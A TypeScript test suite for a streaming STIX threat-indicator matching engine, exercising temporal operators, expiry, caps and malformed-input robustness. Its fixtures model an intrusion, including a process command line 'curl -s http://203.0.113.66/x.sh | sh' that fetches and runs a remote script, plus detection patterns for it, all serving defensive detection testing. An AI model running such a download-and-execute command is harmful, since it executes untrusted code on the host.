// MatchSession, one block per rule of the streaming contract, on realistic SCOs (ipv4-addr, network-traffic
// with src_ref/dst_ref, process with command_line, file with hashes) and observed-data at controlled times:
// single brackets, AND / FOLLOWEDBY (emitted on the completing observation, newest valid partner, order),
// WITHIN to the nanosecond, half-open START/STOP, REPEATS with number_observed (and 50 000 repetitions in
// bounded state), expiry under WITHIN and of unbounded partial matches, the binding and join caps,
// lateness, enforceValidity, hostile SCOs, pruning by the condition index, and agreement of every match
// with matchPattern on the bound observations alone.
import { describe, expect, it } from 'vitest';
import {
  collectObservations,
  type MatchObservation,
  matchPattern,
  toMatchObservation,
} from '../pattern/index.js';
import { bundle, id, type Obj, observed } from '../pattern/match/fixtures.test-support.js';
import { Timestamp } from '../stix/index.js';
import { indicator, observationOf } from './fixtures.test-support.js';
import { compileIndicators, type MatchEngine, type MatchSession, type StreamMatch } from './index.js';

const IND = (n: number): string => id('indicator', n);
const OD = (n: number): string => id('observed-data', n);

const BASE = Timestamp.parse('2026-01-31T12:00:00Z').epochNanos;
const NS = 1_000_000_000n;
/** The instant `seconds` + `nanos` after 2026-01-31T12:00:00Z, as STIX text with nine digits. */
const at = (seconds: number, nanos = 0): string =>
  Timestamp.fromEpochNanos(BASE + BigInt(seconds) * NS + BigInt(nanos)).toString();

const sco = (type: string, n: number, properties: Obj): Obj => ({
  type,
  spec_version: '2.1',
  id: id(type, n),
  ...properties,
});

const ATTACKER = sco('ipv4-addr', 1, { value: '198.51.100.23' });
const NODE = sco('ipv4-addr', 2, { value: '10.0.0.5' });
const SSH = sco('network-traffic', 3, {
  src_ref: ATTACKER['id'],
  dst_ref: NODE['id'],
  src_port: 51_234,
  dst_port: 22,
  protocols: ['ipv4', 'tcp'],
});
const CURL = sco('process', 4, { pid: 4242, command_line: 'curl -s http://203.0.113.66/x.sh | sh' });
const SHA256 = 'aec070645fe53ee3b3763059376134f058cc337247c978add178b6ccdfb0019f';
const DROPPER = sco('file', 5, { name: 'x.sh', size: 4096, hashes: { 'SHA-256': SHA256 } });
const C2 = sco('ipv4-addr', 6, { value: '203.0.113.66' });
const INIT = sco('process', 7, { pid: 1, command_line: '/sbin/init' });
const SCOS = [ATTACKER, NODE, SSH, CURL, DROPPER, C2, INIT];

/** What each kind of observation holds (a network-traffic comes with the addresses it refers to). */
const SSH_SCOS = [SSH, ATTACKER, NODE];

const P_SSH = "[network-traffic:src_ref.value = '198.51.100.23' AND network-traffic:dst_port = 22]";
const P_C2 = "[ipv4-addr:value = '203.0.113.66']";
const P_CURL = "[process:command_line LIKE 'curl %| sh']";
const P_FILE = `[file:hashes.'SHA-256' = '${SHA256}']`;

/** The observed-data numbered `n` over `scos`, and the observation the session takes. */
function raw(n: number, scos: readonly Obj[], first: string, last = first, count = 1): Obj {
  return observed(n, scos, first, last, count);
}
const obs = observationOf;

/** An engine over `patterns`, numbered 1, 2, … in order; every one must compile. */
function engineOf(...patterns: string[]): MatchEngine {
  const engine = compileIndicators(patterns.map((p, i) => indicator(i + 1, p)));
  expect(engine.rejected).toEqual([]);
  return engine;
}

/** Matches as [indicator, bound observed-data ids], sorted by indicator. */
const summary = (matches: readonly StreamMatch[]): [string, string[]][] =>
  matches
    .map((m): [string, string[]] => [m.indicator, m.observations.map((o) => o.id)])
    .sort((a, b) => a[0].localeCompare(b[0]));

/** Pushes each observation; returns the summary of what each push returned. */
const pushAll = (session: MatchSession, ...observations: MatchObservation[]): [string, string[]][][] =>
  observations.map((o) => summary(session.push(o)));

describe('a single [ … ]', () => {
  it('matches on the observation itself, following refs, once per indicator, keeping no state', () => {
    const session = engineOf(P_SSH, P_C2, `${P_C2} OR ${P_CURL}`).session();
    const [match] = session.push(obs(1, SSH_SCOS, at(0), at(2)));
    expect(match?.indicator).toBe(IND(1));
    expect(match?.observations.map((o) => o.id)).toEqual([OD(1)]);
    expect(match?.first.toString()).toBe(at(0));
    expect(match?.last.toString()).toBe(at(2));
    // Both sides of the OR hold on this observation: still one match for indicator 3.
    expect(summary(session.push(obs(2, [C2, CURL], at(5))))).toEqual([
      [IND(2), [OD(2)]],
      [IND(3), [OD(2)]],
    ]);
    expect(session.push(obs(3, [INIT], at(6)))).toEqual([]);
    expect(session.stats()).toMatchObject({ observations: 3, matches: 3, retained: 0, evictions: 0 });
  });

  it('does not match when a ref does not resolve or a comparison of the same object fails', () => {
    const session = engineOf(P_SSH).session();
    const otherPort = sco('network-traffic', 8, { ...SSH, id: id('network-traffic', 8), dst_port: 2222 });
    expect(session.push(obs(1, [SSH, NODE], at(0)))).toEqual([]);
    expect(session.push(obs(2, [otherPort, ATTACKER, NODE], at(1)))).toEqual([]);
    expect(session.stats().matches).toBe(0);
  });
});

describe('AND', () => {
  const AND = `${P_C2} AND ${P_CURL}`;

  it('emits on the completing observation, not before, binding in pattern order', () => {
    const session = engineOf(AND).session();
    expect(session.push(obs(1, [C2], at(0)))).toEqual([]);
    expect(session.stats().retained).toBe(1);
    const matches = session.push(obs(2, [CURL], at(5), at(7)));
    expect(summary(matches)).toEqual([[IND(1), [OD(1), OD(2)]]]);
    expect(matches[0]?.first.toString()).toBe(at(0));
    expect(matches[0]?.last.toString()).toBe(at(7));
    // Arrival order does not change the pattern order of the bound observations.
    const reversed = engineOf(AND).session();
    expect(pushAll(reversed, obs(1, [CURL], at(0)), obs(2, [C2], at(5)))).toEqual([
      [],
      [[IND(1), [OD(2), OD(1)]]],
    ]);
  });

  it('binds the newest stored partner, and completes again on each new observation', () => {
    const session = engineOf(AND).session();
    expect(
      pushAll(
        session,
        obs(1, [C2], at(0)),
        obs(2, [C2], at(10)),
        obs(3, [CURL], at(20)),
        obs(4, [CURL], at(30)),
      ),
    ).toEqual([[], [], [[IND(1), [OD(2), OD(3)]]], [[IND(1), [OD(2), OD(4)]]]]);
  });

  it('binds the newest partner that is valid, skipping newer ones the WITHIN above refuses', () => {
    const session = engineOf(`(${AND}) WITHIN 10 SECONDS`).session();
    // OD1 lasts until 20 s; OD2, newer, ended at 5 s: 25 − 5 = 20 s is too long a span, 25 − 20 = 5 s is not.
    expect(
      pushAll(session, obs(1, [C2], at(0), at(20)), obs(2, [C2], at(5)), obs(3, [CURL], at(25))),
    ).toEqual([[], [], [[IND(1), [OD(1), OD(3)]]]]);
  });

  it('needs two different observations: one holding both sides does not match alone', () => {
    const session = engineOf(AND).session();
    expect(session.push(obs(1, [C2, CURL], at(0)))).toEqual([]);
    const [match] = session.push(obs(2, [C2, CURL], at(1)));
    expect(match?.observations.map((o) => o.id).sort()).toEqual([OD(1), OD(2)]);
  });
});

describe('FOLLOWEDBY', () => {
  const FOLLOWED = `${P_SSH} FOLLOWEDBY ${P_CURL}`;

  it('emits when the right side follows the left', () => {
    const session = engineOf(FOLLOWED).session();
    expect(pushAll(session, obs(1, SSH_SCOS, at(0)), obs(2, [CURL], at(30)))).toEqual([
      [],
      [[IND(1), [OD(1), OD(2)]]],
    ]);
  });

  it('refuses the wrong order, and matches once a right side follows', () => {
    const session = engineOf(FOLLOWED).session();
    expect(pushAll(session, obs(1, [CURL], at(0)), obs(2, SSH_SCOS, at(30)), obs(3, [CURL], at(60)))).toEqual(
      [[], [], [[IND(1), [OD(2), OD(3)]]]],
    );
  });

  it('accepts the same instant and overlapping intervals, to the nanosecond', () => {
    const same = engineOf(FOLLOWED).session();
    expect(pushAll(same, obs(1, SSH_SCOS, at(10)), obs(2, [CURL], at(10)))).toEqual([
      [],
      [[IND(1), [OD(1), OD(2)]]],
    ]);
    // The curl observation is first in time (and arrives first) but lasts until the ssh one starts.
    const overlap = engineOf(FOLLOWED).session();
    expect(pushAll(overlap, obs(1, [CURL], at(0), at(10)), obs(2, SSH_SCOS, at(10), at(40)))).toEqual([
      [],
      [[IND(1), [OD(2), OD(1)]]],
    ]);
    const justBefore = engineOf(FOLLOWED).session();
    expect(
      pushAll(justBefore, obs(1, [CURL], at(0), at(9, 999_999_999)), obs(2, SSH_SCOS, at(10), at(40))),
    ).toEqual([[], []]);
  });

  it('binds the newest left side that the (slightly late) right side follows', () => {
    const session = engineOf(FOLLOWED).session();
    expect(
      pushAll(session, obs(1, SSH_SCOS, at(0)), obs(2, SSH_SCOS, at(30)), obs(3, [CURL], at(25))),
    ).toEqual([[], [], [[IND(1), [OD(1), OD(3)]]]]);
    expect(session.stats().late).toBe(0);
  });
});

describe('WITHIN', () => {
  const within = (seconds: number): string => `(${P_C2} AND ${P_CURL}) WITHIN ${seconds} SECONDS`;

  it('accepts exactly n seconds and refuses n seconds plus one nanosecond', () => {
    for (const lateness of [10, 0]) {
      const exact = engineOf(within(300)).session({ allowedLatenessSeconds: lateness });
      expect(pushAll(exact, obs(1, [C2], at(0, 1)), obs(2, [CURL], at(300, 1)))).toEqual([
        [],
        [[IND(1), [OD(1), OD(2)]]],
      ]);
      const over = engineOf(within(300)).session({ allowedLatenessSeconds: lateness });
      expect(pushAll(over, obs(1, [C2], at(0, 1)), obs(2, [CURL], at(300, 2)))).toEqual([[], []]);
    }
  });

  it('measures from the earliest last_observed to the latest first_observed', () => {
    const covered = engineOf(within(300)).session();
    expect(pushAll(covered, obs(1, [C2], at(0), at(100)), obs(2, [CURL], at(400)))).toEqual([
      [],
      [[IND(1), [OD(1), OD(2)]]],
    ]);
    const gap = engineOf(within(300)).session();
    expect(pushAll(gap, obs(1, [C2], at(0), at(100)), obs(2, [CURL], at(400, 1)))).toEqual([[], []]);
  });

  it('bounds FOLLOWEDBY the same way', () => {
    const pattern = `(${P_SSH} FOLLOWEDBY ${P_CURL}) WITHIN 60 SECONDS`;
    const inside = engineOf(pattern).session();
    expect(pushAll(inside, obs(1, SSH_SCOS, at(0)), obs(2, [CURL], at(60)))).toEqual([
      [],
      [[IND(1), [OD(1), OD(2)]]],
    ]);
    const outside = engineOf(pattern).session();
    expect(pushAll(outside, obs(1, SSH_SCOS, at(0)), obs(2, [CURL], at(60, 1)))).toEqual([[], []]);
  });
});

describe('START / STOP', () => {
  const window = "START t'2026-01-31T12:00:00Z' STOP t'2026-01-31T13:00:00Z'";

  it('admits first_observed ≥ START and last_observed < STOP, to the nanosecond', () => {
    const session = engineOf(`${P_C2} ${window}`).session();
    expect(
      pushAll(
        session,
        obs(1, [C2], at(-1, 999_999_999), at(600)),
        obs(2, [C2], at(0)),
        obs(3, [C2], at(1800), at(3600)),
        obs(4, [C2], at(1800), at(3599, 999_999_999)),
      ),
    ).toEqual([[], [[IND(1), [OD(2)]]], [], [[IND(1), [OD(4)]]]]);
  });

  it('applies to every bound observation, and expires what it holds once event time passes STOP', () => {
    const session = engineOf(`(${P_C2} AND ${P_CURL}) ${window}`).session();
    expect(
      pushAll(
        session,
        obs(1, [C2], at(-1)),
        obs(2, [CURL], at(10)),
        obs(3, [C2], at(20)),
        obs(4, [C2], at(3599)),
        obs(5, [CURL], at(3600)),
      ),
    ).toEqual([[], [], [[IND(1), [OD(3), OD(2)]]], [[IND(1), [OD(4), OD(2)]]], []]);
    expect(session.stats()).toMatchObject({ retained: 3, expired: 0 });
    // Hours later (past the session's sweep interval), nothing held can complete any more.
    session.push(obs(6, [INIT], at(3 * 3600)));
    expect(session.stats()).toMatchObject({ retained: 0, expired: 3 });
  });
});

describe('REPEATS', () => {
  it('counts number_observed on a bare [ … ]', () => {
    const pattern = `${P_C2} REPEATS 5 TIMES`;
    const split = engineOf(pattern).session();
    expect(
      pushAll(split, obs(1, [C2], at(0), at(0), 3), obs(2, [C2], at(10), at(10), 2), obs(3, [C2], at(20))),
    ).toEqual([[], [[IND(1), [OD(1), OD(2)]]], [[IND(1), [OD(1), OD(2), OD(3)]]]]);
    const once = engineOf(pattern).session();
    expect(pushAll(once, obs(1, [C2], at(0), at(30), 5))).toEqual([[[IND(1), [OD(1)]]]]);
    const short = engineOf(pattern).session();
    expect(pushAll(short, obs(1, [C2], at(0), at(30), 4))).toEqual([[]]);
  });

  it('repeats a composite expression with disjoint bindings', () => {
    const session = engineOf(`(${P_C2} AND ${P_CURL}) REPEATS 2 TIMES`).session();
    const results = pushAll(
      session,
      obs(1, [C2], at(0)),
      obs(2, [CURL], at(1)),
      obs(3, [C2], at(2)),
      obs(4, [CURL], at(3)),
    );
    expect(results.slice(0, 3)).toEqual([[], [], []]);
    expect(results[3]?.map(([indicator, ids]) => [indicator, [...ids].sort()])).toEqual([
      [IND(1), [OD(1), OD(2), OD(3), OD(4)]],
    ]);
  });

  it('stays bounded over 50 000 observations of `[a] REPEATS 10 TIMES`, matching on each from the 10th', () => {
    const session = engineOf(`${P_C2} REPEATS 10 TIMES`).session();
    const byId = new Map([[String(C2['id']), C2]]);
    const total = 50_000;
    let matches = 0;
    let firstMatchAt = -1;
    let lastMatch: StreamMatch | undefined;
    let maxRetained = 0;
    for (let n = 1; n <= total; n++) {
      const o = toMatchObservation(raw(n, [C2], at(n)), byId, '2.1');
      if (!o) throw new Error('no interval');
      const out = session.push(o);
      if (out.length > 0) {
        matches += 1;
        lastMatch = out[0];
        if (firstMatchAt < 0) firstMatchAt = n;
      } else if (n >= 10) {
        throw new Error(`no match on observation ${n}`);
      }
      if (n % 1000 === 0) maxRetained = Math.max(maxRetained, session.stats().retained);
    }
    expect(firstMatchAt).toBe(10);
    expect(matches).toBe(total - 9);
    expect(lastMatch?.observations.map((o) => o.id)).toEqual(
      Array.from({ length: 10 }, (_, i) => OD(total - 9 + i)),
    );
    expect(maxRetained).toBeLessThanOrEqual(10_000);
    expect(session.stats()).toMatchObject({
      observations: total,
      matches: total - 9,
      retained: 10_000,
      evictions: total - 10_000,
      truncated: 0,
    });
  });
});

describe('expiry', () => {
  it('drops partial matches a WITHIN can no longer complete: state stays bounded over hours', () => {
    const session = engineOf(`(${P_C2} FOLLOWEDBY ${P_CURL}) WITHIN 300 SECONDS`).session();
    let maxRetained = 0;
    const count = 300;
    for (let n = 1; n <= count; n++) {
      expect(session.push(obs(n, [C2], at(60 * n)))).toEqual([]);
      maxRetained = Math.max(maxRetained, session.stats().retained);
    }
    // A left side lives while (now − 10 s lateness) − its end ≤ 300 s: at most 6 at 60 s apart.
    expect(maxRetained).toBeLessThanOrEqual(6);
    const stats = session.stats();
    expect(stats.expired).toBeGreaterThanOrEqual(count - 6);
    expect(stats.retained + stats.expired).toBe(count);
    expect(stats.evictions).toBe(0);
    // What is still held completes; what has expired cannot.
    expect(summary(session.push(obs(count + 1, [CURL], at(60 * count + 100))))).toEqual([
      [IND(1), [OD(count), OD(count + 1)]],
    ]);
    expect(session.push(obs(count + 2, [CURL], at(60 * count + 301)))).toEqual([]);
  });

  it('keeps partial matches of a pattern without WITHIN for unboundedWindowSeconds after their end', () => {
    const pattern = `${P_C2} AND ${P_CURL}`;
    const options = { unboundedWindowSeconds: 3600 };
    // "Now" is the latest first_observed minus the 10 s allowed lateness.
    const kept = engineOf(pattern).session(options);
    expect(pushAll(kept, obs(1, [C2], at(0)), obs(2, [CURL], at(3610)))).toEqual([
      [],
      [[IND(1), [OD(1), OD(2)]]],
    ]);
    const dropped = engineOf(pattern).session(options);
    expect(pushAll(dropped, obs(1, [C2], at(0)), obs(2, [CURL], at(3610, 1)))).toEqual([[], []]);
    expect(dropped.stats()).toMatchObject({ expired: 1, retained: 1 });
    // The default keeps them for a day.
    const day = engineOf(pattern).session();
    expect(pushAll(day, obs(1, [C2], at(0)), obs(2, [CURL], at(7200)))).toEqual([
      [],
      [[IND(1), [OD(1), OD(2)]]],
    ]);
  });
});

describe('caps', () => {
  it('evicts the oldest partial matches beyond maxBindingsPerIndicator, counted per indicator', () => {
    const engine = engineOf(`${P_C2} AND ${P_CURL}`, `${P_SSH} FOLLOWEDBY ${P_CURL}`);
    // Two stores per indicator: two bindings each.
    const session = engine.session({ maxBindingsPerIndicator: 4 });
    for (let n = 1; n <= 5; n++) session.push(obs(n, [C2], at(n)));
    for (let n = 6; n <= 8; n++) session.push(obs(n, SSH_SCOS, at(n)));
    expect(session.stats()).toMatchObject({ evictions: 4, retained: 4, matches: 0 });
    expect(session.evictionsByIndicator()).toEqual([
      [IND(1), 3],
      [IND(2), 1],
    ]);
    expect(summary(session.push(obs(9, [CURL], at(9))))).toEqual([
      [IND(1), [OD(5), OD(9)]],
      [IND(2), [OD(8), OD(9)]],
    ]);
    expect(session.stats()).toMatchObject({ evictions: 4, retained: 6 });
    expect(engine.session().evictionsByIndicator()).toEqual([]);
  });

  it('stops joining after maxJoinsPerObservation stored partners, and counts the truncation', () => {
    const pattern = `(${P_C2} AND ${P_CURL}) WITHIN 1 SECONDS`;
    // Only OD1 (which lasts until 9.5 s) is within a second of the curl at 10 s; four newer ones are not.
    const feed = (): MatchObservation[] => [
      obs(1, [C2], at(0), at(9, 500_000_000)),
      ...[2, 3, 4, 5].map((n) => obs(n, [C2], at(n - 1))),
      obs(6, [CURL], at(10)),
      obs(7, [CURL], at(10)),
    ];
    const unlimited = engineOf(pattern).session();
    expect(pushAll(unlimited, ...feed()).slice(5)).toEqual([
      [[IND(1), [OD(1), OD(6)]]],
      [[IND(1), [OD(1), OD(7)]]],
    ]);
    expect(unlimited.stats().truncated).toBe(0);
    const capped = engineOf(pattern).session({ maxJoinsPerObservation: 2 });
    expect(pushAll(capped, ...feed()).slice(5)).toEqual([[], []]);
    expect(capped.stats().truncated).toBe(2);
  });
});

describe('lateness', () => {
  it('counts observations more than allowedLatenessSeconds behind the latest first_observed', () => {
    const times = [100, 95, 80, 90, 111];
    const lenient = engineOf(P_C2).session();
    for (const [i, s] of times.entries()) lenient.push(obs(i + 1, [C2], at(s)));
    expect(lenient.stats()).toMatchObject({ observations: 5, late: 1, matches: 5 });
    const strict = engineOf(P_C2).session({ allowedLatenessSeconds: 0 });
    for (const [i, s] of times.entries()) strict.push(obs(i + 1, [C2], at(s)));
    expect(strict.stats()).toMatchObject({ observations: 5, late: 3, matches: 5 });
  });

  it('a partner too late for the allowance finds its WITHIN partners expired', () => {
    const pattern = `(${P_C2} AND ${P_CURL}) WITHIN 5 SECONDS`;
    const feed = (): MatchObservation[] => [
      obs(1, [C2], at(100)),
      obs(2, [INIT], at(120)),
      obs(3, [CURL], at(104)),
    ];
    const tight = engineOf(pattern).session();
    expect(pushAll(tight, ...feed())).toEqual([[], [], []]);
    expect(tight.stats().late).toBe(1);
    const loose = engineOf(pattern).session({ allowedLatenessSeconds: 30 });
    expect(pushAll(loose, ...feed())).toEqual([[], [], [[IND(1), [OD(1), OD(3)]]]]);
    expect(loose.stats().late).toBe(0);
  });
});

describe('enforceValidity', () => {
  const validity = { valid_from: '2026-01-31T12:00:00Z', valid_until: '2026-01-31T13:00:00Z' };
  const feed = (): MatchObservation[] => [
    obs(1, [C2], at(-60), at(-1, 999_999_999)),
    obs(2, [C2], at(-60), at(0)),
    obs(3, [C2], at(1800)),
    obs(4, [C2], at(3540), at(3600)),
  ];

  it('reports only matches whose latest last_observed lies in [valid_from, valid_until)', () => {
    const engine = compileIndicators([indicator(1, P_C2, validity)]);
    const enforced = engine.session({ enforceValidity: true });
    expect(pushAll(enforced, ...feed())).toEqual([[], [[IND(1), [OD(2)]]], [[IND(1), [OD(3)]]], []]);
    expect(enforced.stats().matches).toBe(2);
    const ignored = engine.session();
    expect(pushAll(ignored, ...feed()).map((m) => m.length)).toEqual([1, 1, 1, 1]);
  });

  it('still reports a valid match when the newest partner would make one outside the validity', () => {
    // OD2 (newer, but lasting past valid_until) and OD3 make a match outside the validity; OD1 and OD3 make
    // one inside it, completed by the same observation.
    const engine = compileIndicators([
      indicator(1, `${P_C2} AND ${P_CURL}`, { valid_until: '2026-01-31T12:10:00Z' }),
    ]);
    const session = engine.session({ enforceValidity: true });
    expect(
      pushAll(session, obs(1, [C2], at(0)), obs(2, [C2], at(60), at(1200)), obs(3, [CURL], at(120))),
    ).toEqual([[], [], [[IND(1), [OD(1), OD(3)]]]]);
  });
});

describe('hostile SCOs', () => {
  /** An object nested `depth` levels deep under `a`, built without recursion. */
  function deep(depth: number): Obj {
    let inner: Obj = { leaf: 1 };
    for (let i = 0; i < depth; i++) inner = { a: inner };
    return inner;
  }
  const SELF = id('network-traffic', 99);
  const hostile: Obj[] = [
    { type: 42, id: id('x-hostile', 1), value: '203.0.113.66' },
    { type: null, id: id('x-hostile', 2), value: '203.0.113.66' },
    { type: ['ipv4-addr'], id: id('x-hostile', 3), value: '203.0.113.66' },
    { type: 'ipv4-addr', id: id('ipv4-addr', 4), value: null },
    { type: 'ipv4-addr', id: id('ipv4-addr', 5), value: ['203.0.113.66'] },
    { type: 'ipv4-addr', id: id('ipv4-addr', 6), value: { 0: '203.0.113.66' } },
    { type: 'ipv4-addr', id: id('ipv4-addr', 7), value: 'x'.repeat(2_000_000) },
    { type: 'ipv4-addr', id: id('ipv4-addr', 8), value: '203.0.113.66\u0000' },
    JSON.parse(`{"type":"ipv4-addr","id":"${id('ipv4-addr', 9)}","__proto__":{"value":"203.0.113.66"}}`),
    {
      type: 'process',
      id: id('process', 10),
      pid: '4242',
      arguments: null,
      command_line: `curl ${'A'.repeat(1_000_000)}`,
    },
    { type: 'process', id: id('process', 11), command_line: 4242, arguments: 'curl' },
    {
      type: 'network-traffic',
      id: id('network-traffic', 12),
      src_ref: 12,
      dst_ref: { value: '10.0.0.5' },
      dst_port: '22',
      protocols: 'tcp',
    },
    {
      type: 'network-traffic',
      id: SELF,
      src_ref: SELF,
      dst_ref: SELF,
      dst_port: 22,
      protocols: [null, 7, ['tcp']],
    },
    { type: 'file', id: id('file', 14), hashes: SHA256, name: 12 },
    { type: 'file', id: id('file', 15), hashes: { 'SHA-256': 12 } },
    { type: 'file', id: id('file', 16), hashes: null },
    { type: 'x-deep', id: id('x-deep', 17), ...deep(100_000) },
  ];
  const patterns = [
    P_SSH,
    P_C2,
    P_CURL,
    P_FILE,
    "[ipv4-addr:value MATCHES '^x+$']",
    "[process:command_line LIKE '%A%A%A%B']",
    "[network-traffic:src_ref.src_ref.src_ref.dst_port = 22 AND network-traffic:protocols[*] = 'tcp']",
    '[x-deep:a.a.a.a.leaf = 1]',
    "[process:arguments[*] = 'curl']",
    '[EXISTS file:hashes.MD5]',
  ];

  it('never throws, and matches only what a well-formed reading allows', () => {
    const engine = engineOf(...patterns);
    const session = engine.session();
    const od: Obj = {
      ...raw(1, hostile, at(0)),
      object_refs: [...hostile.map((h) => h['id']), 42, null, { id: 'x' }, 'ipv4-addr--missing'],
    };
    const observation = toMatchObservation(od, new Map(hostile.map((h) => [String(h['id']), h])), '2.1');
    if (!observation) throw new Error('no interval');
    // Only the 2 MB run of x is a (well-typed) hit: of `MATCHES '^x+$'`.
    expect(summary(session.push(observation))).toEqual([[IND(5), [OD(1)]]]);
    // The session is still sound afterwards.
    expect(summary(session.push(obs(2, [C2], at(1))))).toEqual([[IND(2), [OD(2)]]]);
    expect(session.stats()).toMatchObject({ observations: 2, matches: 2 });
  });

  it('skips observed-data without a usable interval before they reach the session', () => {
    const input = [
      bundle(
        C2,
        { ...raw(1, [C2], at(0)), first_observed: 'yesterday' },
        { ...raw(2, [C2], at(10), at(5)) },
        { ...raw(3, [C2], at(0)), first_observed: 1_769_860_800 },
        { ...raw(4, [C2], at(0)), type: 'observed-data ' },
        raw(5, [C2], at(0)),
      ),
    ];
    expect(collectObservations(input, '2.1').map((o) => o.id)).toEqual([OD(5)]);
  });
});

describe('the condition index', () => {
  const address = (n: number): string => `10.1.${n >> 8}.${n & 255}`;
  const engine = compileIndicators(
    Array.from({ length: 1_000 }, (_, n) => indicator(n, `[ipv4-addr:value = '${address(n)}']`)),
  );

  it('runs only the equality tests whose constant the observation holds', () => {
    expect(engine.rejected).toEqual([]);
    expect(engine.conditionCount).toBe(1_000);
    const session = engine.session();
    expect(summary(session.push(obs(1, [sco('ipv4-addr', 1, { value: address(537) })], at(0))))).toEqual([
      [IND(537), [OD(1)]],
    ]);
    expect(session.stats().evaluated).toBe(1);
    expect(session.push(obs(2, [sco('ipv4-addr', 2, { value: '10.2.0.1' })], at(1)))).toEqual([]);
    expect(session.stats().evaluated).toBe(1);
    const src = sco('ipv4-addr', 3, { value: address(3) });
    const dst = sco('ipv4-addr', 4, { value: address(999) });
    const flow = sco('network-traffic', 5, { src_ref: src['id'], dst_ref: dst['id'], dst_port: 443 });
    expect(summary(session.push(obs(3, [flow, src, dst], at(2))))).toEqual([
      [IND(3), [OD(3)]],
      [IND(999), [OD(3)]],
    ]);
    expect(session.stats()).toMatchObject({ evaluated: 3, matches: 3 });
  });
});

describe('agreement with matchPattern', () => {
  const patterns = [
    P_SSH,
    `${P_C2} AND ${P_CURL}`,
    `${P_SSH} FOLLOWEDBY ${P_CURL}`,
    `(${P_SSH} FOLLOWEDBY ${P_CURL}) WITHIN 60 SECONDS`,
    `${P_C2} REPEATS 3 TIMES`,
    `(${P_C2} OR ${P_FILE}) FOLLOWEDBY ${P_CURL}`,
    `${P_CURL} FOLLOWEDBY ${P_SSH}`,
    `(${P_FILE} AND ${P_SSH}) WITHIN 5 SECONDS`,
  ];
  const scenario: Obj[] = [
    raw(1, SSH_SCOS, at(0)),
    raw(2, [C2], at(20)),
    raw(3, [DROPPER], at(50), at(55)),
    raw(4, [C2], at(90)),
    raw(5, [CURL], at(100)),
    raw(6, [C2, INIT], at(130)),
    raw(7, SSH_SCOS, at(140)),
    raw(8, [CURL], at(150)),
  ];

  it('every session match is a match of matchPattern on its bound observations alone', () => {
    const engine = engineOf(...patterns);
    const session = engine.session();
    const observations = collectObservations([bundle(...SCOS, ...scenario)], '2.1');
    expect(observations).toHaveLength(scenario.length);
    const matches = observations.flatMap((o) => session.push(o));
    const byId = new Map(scenario.map((o) => [String(o['id']), o]));
    for (const match of matches) {
      const pattern = patterns[engine.indicators.findIndex((i) => i.id === match.indicator)];
      if (pattern === undefined) throw new Error(`unknown indicator ${match.indicator}`);
      const bound = match.observations.map((o) => byId.get(o.id) ?? {});
      const alone = matchPattern(pattern, [bundle(...SCOS, ...bound)]);
      expect(alone.matched, `${pattern} on ${match.observations.map((o) => o.id).join(', ')}`).toBe(true);
    }
    // Which indicators matched, and how often, with what the exhaustive search says over the whole input.
    const counts = patterns.map((_, i) => matches.filter((m) => m.indicator === IND(i + 1)).length);
    expect(counts).toEqual([2, 3, 2, 1, 1, 2, 1, 0]);
    const batch = patterns.map((p) => matchPattern(p, [bundle(...SCOS, ...scenario)]).matched);
    expect(batch).toEqual(counts.map((c) => c > 0));
  });
});
